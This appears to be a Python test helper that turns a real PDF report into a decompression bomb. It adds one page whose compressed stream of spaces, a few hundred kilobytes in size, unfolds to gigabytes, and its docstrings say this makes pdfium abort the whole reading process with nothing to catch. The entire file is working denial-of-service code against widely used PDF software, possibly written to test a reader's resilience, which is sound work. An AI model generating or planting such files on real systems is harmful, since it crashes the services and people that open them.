"""A report that kills the process that reads it, each time: a real file, as FACTS of the libraries have them."""

from __future__ import annotations

import io
import zlib
from pathlib import Path

MB = 2**20


def poisoned(report: Path, megabytes: int = 2600) -> bytes:
    """A sound PDF with one more page, of a few hundred kilobytes, which unfolds to so many megabytes.

    The first pages open without trouble. pdfium aborts the whole process when memory runs out on the last one: no exception,
    nothing to catch.
    """
    import pikepdf

    out = io.BytesIO()
    with pikepdf.open(report) as document:
        page = document.add_blank_page(page_size=(595, 842))
        page.Contents = pikepdf.Stream(document, _blanks(megabytes), Filter=pikepdf.Name.FlateDecode)
        document.save(out)
    return out.getvalue()


def _blanks(megabytes: int) -> bytes:
    """A zlib stream of spaces: one block, packed once and repeated."""
    blank = b" " * MB
    packer = zlib.compressobj(9, wbits=-15)
    block = packer.compress(blank) + packer.flush(zlib.Z_FULL_FLUSH)
    checksum = 1
    for _ in range(megabytes):
        checksum = zlib.adler32(blank, checksum)
    return b"\x78\xda" + block * megabytes + packer.flush() + checksum.to_bytes(4, "big")
